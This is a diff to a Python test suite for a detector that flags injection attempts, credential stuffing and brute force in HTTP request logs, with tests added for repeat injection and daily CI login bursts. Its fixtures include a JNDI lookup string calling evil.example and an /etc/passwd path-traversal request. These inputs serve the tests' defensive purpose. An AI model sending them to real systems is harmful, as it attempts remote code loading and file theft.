@@ -70,10 +70,21 @@ def test_a_refused_secret_or_an_ordinary_download_is_no_breach(path: str, status
         "/v1/items?x=${jndi:ldap://evil.example/a}",
     ],
 )
-def test_injection_in_the_path_or_query_fires_once(request_path: str) -> None:
-    attempt = requests([ATTACK], key=None, ip="198.51.100.22", path=request_path, status=400)
+def test_two_injection_attempts_are_an_attack(request_path: str) -> None:
+    attempt = requests(
+        every(ATTACK, 2, 60.0),
+        key=None,
+        ip="198.51.100.22",
+        path=[request_path, request_path + "&x=1"],
+        status=400,
+    )
     findings = about(all_kinds(attempt), "198.51.100.22")
     assert kinds(findings) == {"injection"}
+
+
+def test_one_stray_injection_attempt_is_internet_noise() -> None:
+    stray = requests([ATTACK], key=None, ip="198.51.100.27", path="/../../etc/passwd", status=404)
+    assert about(all_kinds(stray), "198.51.100.27").height == 0
 
 
 @pytest.mark.parametrize(
@@ -166,6 +177,24 @@ def test_a_customers_ci_failing_logins_on_purpose_is_not_stuffing() -> None:
         for h in range(24)
     ]
     assert all_kinds(pl.concat(runs)).height == 0
+
+
+def test_a_ci_burst_of_failures_every_day_is_usual() -> None:
+    # 90 deliberate 401s within ten minutes at 09:00 every day of the month, and today
+    days = [
+        requests(
+            every(HISTORY_START + timedelta(days=d, hours=9), 90, 6.0),
+            ip="10.1.1.201",
+            user=[f"ci-user{i % 3}" for i in range(90)],
+            path="/v1/login",
+            status=401,
+        )
+        for d in range(29)
+    ]
+    assert all_kinds(pl.concat(days)).height == 0
+    # the same burst out of the blue is one
+    once = days[-1]
+    assert kinds(all_kinds(once)) == {"auth_failures"}
 
 
 def test_slow_brute_force_on_one_user_is_found() -> None:
